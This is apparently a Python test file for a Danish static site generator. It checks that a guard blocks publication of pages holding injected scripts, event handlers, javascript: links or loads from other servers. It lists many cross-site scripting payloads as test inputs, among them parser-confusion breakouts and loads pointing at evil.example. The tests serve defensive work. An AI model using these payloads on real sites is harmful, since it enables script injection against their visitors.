"""The last line of defence: a built page with script, event handlers, javascript: or outside loads is never published."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from conftest import TODAY, build_one, copy_project, own_theme, read_site
from generator.builder.engine import Engine, theme_templates
from generator.builder.engine.theme_files import OUR_SCRIPT
from generator.builder.fingerprint import inputs_digest
from generator.builder.pipeline import Project, shared_files
from generator.builder.project import THEME_FILES
from generator.errors import GroupError
from generator.guard.scripts import Allowed, check_site, scan_page, scan_search_index, script_patterns

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def scripts():
    return script_patterns(theme_templates(THEME_FILES / "overrides"))


@pytest.fixture(scope="module")
def contract_pages(built_site):
    return read_site(built_site)


@pytest.fixture(scope="module")
def allowed():
    """What the contract site's pages may load: our script and the search worker in the shared folder (the theme's
    script is loaded by ours when the search is opened; no page names it)."""
    shared = shared_files(Project(ROOT), Engine(), inputs_digest(Project(ROOT), Engine().name)).urls
    return Allowed(scripts=(shared.url(OUR_SCRIPT),), worker=shared.worker)


@pytest.fixture(scope="module")
def home(allowed):
    """What the home page (at the top of the group's folder) may load."""
    return allowed.scripts_at(0), allowed.worker_at(0)


def test_contract_site_is_clean(contract_pages, scripts, allowed):
    pages, index = contract_pages
    assert len(pages) == 23  # 16 pages and 7 printables (6 posters, the invitation); no 404.html of its own
    assert index is not None
    assert check_site(pages, index, scripts, "groups/nordsjaelland.yaml", allowed) == []


def test_no_page_has_an_inline_script_and_none_is_waved_through(contract_pages, scripts, home):
    # The theme's inline scripts are all left out: the one for content tabs (overrides/partials/javascripts/content.html),
    # the one defining __md_scope and its kin (…/base.html: assets/netvaerk.js does that), the palette's (one palette).
    html = contract_pages[0]["index.html"]
    assert html.count("<script>") == 0
    assert scan_page(html, scripts, *home) == []
    assert scan_page(html + "<script>var palette=1</script>", scripts, *home) == ["et <script>-element"]


def test_only_the_shared_script_and_worker_at_their_exact_places_are_loaded(contract_pages, scripts, allowed, home):
    pages, _ = contract_pages
    html, nested = pages["index.html"], pages["moeder/2027-01-12.html"]
    (ours,), worker = allowed.scripts, allowed.worker
    assert f'<script src="{ours}"></script>' in html and f'"search":"{worker}"' in html
    assert f'<script src="../{ours}"></script>' in nested and f'"search":"../{worker}"' in nested
    assert "bundle." not in html  # the theme's script comes only with the search, loaded by ours
    # The same files from the wrong place, or other files beside them, are refused; so is the theme's script itself.
    assert scan_page(nested, scripts, *home) == [
        f"indstillinger, der starter et andet søgeprogram (../{worker})",
        f"et <script>-element, der henter ../{ours}",
    ]
    other = ours.replace("netvaerk.", "evil.")
    assert scan_page(html.replace(ours, other), scripts, *home) == [f"et <script>-element, der henter {other}"]
    bundle = ours.rsplit("/", 1)[0] + "/bundle.0123456789.min.js"
    assert scan_page(html + f'<script src="{bundle}"></script>', scripts, *home) == [f"et <script>-element, der henter {bundle}"]
    assert scan_page(html.replace(f'"search":"{worker}"', '"search":"https://evil.example/w.js"'), scripts, *home) == [
        "indstillinger, der starter et andet søgeprogram (https://evil.example/w.js)"
    ]
    assert scan_page(html.replace('"base":"."', '"base":"https://evil.example/"'), scripts, *home) == [
        "indstillinger, der henter søgeindekset fra en anden server"
    ]
    assert scan_page(html, scripts, frozenset(), None) == [
        f"indstillinger, der starter et andet søgeprogram ({worker})",
        f"et <script>-element, der henter {ours}",
    ]


INJECTIONS = [
    ("<script>alert(1)</script>", ["et <script>-element"]),
    ('<script type="module">alert(1)</script>', ["et <script>-element"]),
    (
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        ["noget, der hentes fra en anden server (src på <script>)", "et <script>-element, der henter //evil.example/x.js"],
    ),
    ('<script src="assets/javascripts/evil.js"></script>', ["et <script>-element, der henter assets/javascripts/evil.js"]),
    ('<script src="assets/netvaerk.js.evil"></script>', ["et <script>-element, der henter assets/netvaerk.js.evil"]),
    ('<script src="assets/javascripts/netvaerk.js"></script>', ["et <script>-element, der henter assets/javascripts/netvaerk.js"]),
    ('<script src="uploads/assets/netvaerk.js?x"></script>', ["et <script>-element, der henter uploads/assets/netvaerk.js?x"]),
    ('<script>__md_scope=new URL("x",location)</script>', ["et <script>-element"]),
    ("<scr<script>ipt>alert(1)</script>", ["et <script>-element, som er skrevet, så det er svært at få øje på"]),
    # html.parser reads one harmless <p>; a browser ends the raw text inside the value, and the <img> runs.
    (
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x</p></noscript>',
        ["et sluttag som </noscript> eller </textarea>, som er skrevet, så det er svært at få øje på"],
    ),
    (
        '<textarea><p title="</TEXTAREA ><img src=x onerror=alert(1)>"></p></textarea>',
        ["et sluttag som </noscript> eller </textarea>, som er skrevet, så det er svært at få øje på"],
    ),
    ("<img src=x onerror=alert(1)>", ["en hændelsesattribut (onerror) på <img>"]),
    ("<details open ontoggle=alert(1)>", ["en hændelsesattribut (ontoggle) på <details>"]),
    ('<svg onload="alert(1)"></svg>', ["en hændelsesattribut (onload) på <svg>"]),
    ('<a href="javascript:alert(1)">x</a>', ["en javascript:-adresse i href på <a>"]),
    ('<a href="jav&#x09;ascript&colon;alert(1)">x</a>', ["en javascript:-adresse i href på <a>"]),
    ('<a href=" JAVASCRIPT:alert(1)">x</a>', ["en javascript:-adresse i href på <a>"]),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', ["en javascript:-adresse i xlink:href på <a>"]),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', ["en javascript:-adresse i values på <animate>"]),
    ('<a href="data:text/html,x">x</a>', ["et link af typen data: på <a>"]),
    ('<iframe src="https://evil.example"></iframe>', ["et <iframe>-element", "noget, der hentes fra en anden server (src på <iframe>)"]),
    ('<object data="x.swf"></object>', ["et <object>-element"]),
    ('<base href="https://evil.example/">', ["et <base>-element", "en henvisning til en anden server (href på <base>)"]),
    ("<style>body{background:url(https://evil.example/x)}</style>", ["et <style>-element"]),
    ('<img src="https://evil.example/p.png">', ["noget, der hentes fra en anden server (src på <img>)"]),
    ("<img src=//evil.example/p.png>", ["noget, der hentes fra en anden server (src på <img>)"]),
    ('<img srcset="a.png 1x, https://evil.example/b.png 2x">', ["noget, der hentes fra en anden server (srcset på <img>)"]),
    ('<link rel="stylesheet" href="https://fonts.googleapis.com/css">', ["en <link rel=stylesheet>, der henter fra en anden server"]),
    ('<div style="background:url(https://evil.example/x)">', ["CSS, der kan hente noget (style på <div>)"]),
    ('<svg><path filter="url(https://evil.example/f.svg#x)" d="M0 0"/></svg>', ["CSS, der kan hente noget (filter på <path>)"]),
    ('<svg><rect fill="URL( https://evil.example/p.svg#g)"/></svg>', ["CSS, der kan hente noget (fill på <rect>)"]),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example">', ["en <meta http-equiv=refresh>, der sender videre til en anden side"]),
    ('<form action="https://evil.example"><input></form>', ["en formular, der sender til https://evil.example"]),
    # A repeated attribute: a browser takes the first, so each one is looked at.
    ('<a href="javascript:alert(1)" href="#ok">x</a>', ["en javascript:-adresse i href på <a>"]),
    ('<script src="evil.js" src="evil.js"></script>', ["et <script>-element"]),
    ('<link href="https://evil.example/s.css" rel="stylesheet" rel="nofollow">', ["en <link rel=stylesheet>, der henter fra en anden server"]),
]


@pytest.mark.parametrize(("snippet", "expected"), INJECTIONS, ids=[s for s, _ in INJECTIONS])
def test_injected_markup_is_found(contract_pages, scripts, home, snippet, expected):
    html = contract_pages[0]["index.html"]
    anchor = '<h2 id="om-gruppen">'
    assert anchor in html
    assert scan_page(html.replace(anchor, snippet + anchor), scripts, *home) == expected


@pytest.mark.parametrize(
    "snippet",
    [
        '<a href="https://arbejdsmiljoweb.dk">ok</a>',
        '<a href="mailto:a@example.dk">a@example.dk</a>',
        '<a href="tel:20304050">20 30 40 50</a>',
        '<p title="javascript: er bare tekst her">tekst</p>',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt; javascript&#58;alert(1)</p>",
        '<noscript><p class="x">Slå JavaScript til</p></noscript><p title="&lt;/noscript&gt; er tekst">x</p>',
        "<textarea>tekst</textarea><p>&lt;/title&gt;</p>",
    ],
)
def test_harmless_markup_passes(contract_pages, scripts, home, snippet):
    html = contract_pages[0]["index.html"].replace('<h2 id="om-gruppen">', snippet + '<h2 id="om-gruppen">')
    assert scan_page(html, scripts, *home) == []


def test_search_index_with_markup_is_found(contract_pages):
    index = contract_pages[1]
    assert scan_search_index(index) == []
    hostile = index.replace('"text":"', '"text":"<img src=x onerror=alert(1)>', 1)
    assert scan_search_index(hostile) == ["søgeindekset indeholder et <img>-element"]
    assert scan_search_index(index.replace('"text":"', '"text":"<p class=x>', 1)) == ["søgeindekset indeholder et <p>-element"]
    assert scan_search_index("ikke json") == ["et søgeindeks, der ikke kan læses"]


def test_problems_name_the_pages_once_per_kind(contract_pages, scripts, allowed):
    pages = {rel: html.replace("</body>", "<img src=x onerror=alert(1)></body>") for rel, html in contract_pages[0].items()}
    problems = check_site(pages, None, scripts, "groups/x.yaml", allowed)
    assert [str(p) for p in problems] == [
        "groups/x.yaml:1:1: den byggede side indeholder en hændelsesattribut (onerror) på <img>, som netvaerk ikke selv "
        "har sat ind (dagsordener.html, index.html, invitation.html og 20 andre); siden er ikke lagt ud, og den forrige udgave er urørt"
    ]


def _tree(folder: Path) -> dict[str, str]:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def test_a_build_with_injected_script_is_not_published(tmp_path, monkeypatch):
    # A compromised theme override stands in for any way markup could slip past escaping.
    root = copy_project(tmp_path)
    project, out, group = Project(root), root / "site", root / "groups" / "nordsjaelland.yaml"
    build_one(project, group, "nordsjaelland", out, TODAY)
    before = _tree(out)
    main = own_theme(monkeypatch, root) / "overrides" / "main.html"
    main.write_text(main.read_text().replace("{% endblock %}", '<img src="x" onerror="alert(1)">\n{% endblock %}', 1))
    with pytest.raises(GroupError) as caught:
        build_one(project, group, "nordsjaelland", out, TODAY)
    assert [str(p) for p in caught.value.problems] == [
        "groups/nordsjaelland.yaml:1:1: den byggede side indeholder en hændelsesattribut (onerror) på <img>, som netvaerk "
        "ikke selv har sat ind (dagsordener.html, index.html, invitation.html og 13 andre); siden er ikke lagt ud, og den forrige udgave er urørt"
    ]
    assert _tree(out) == before
    assert sorted(p.name for p in out.iterdir()) == ["_tema", "nordsjaelland"]
